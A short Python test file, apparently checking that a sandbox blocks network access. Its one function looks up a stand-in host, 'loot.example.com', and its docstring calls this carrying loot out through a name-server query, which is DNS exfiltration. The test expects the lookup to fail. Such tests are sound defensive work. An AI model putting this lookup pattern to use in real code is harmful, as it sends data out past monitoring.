"""Ask a name server, which would carry loot out in the question."""
# must: double failed
# says: gaierror|PermissionError
# spares: the network

import socket

import kit


def double(x):
    kit.show(socket.getaddrinfo("loot.example.com", 80))
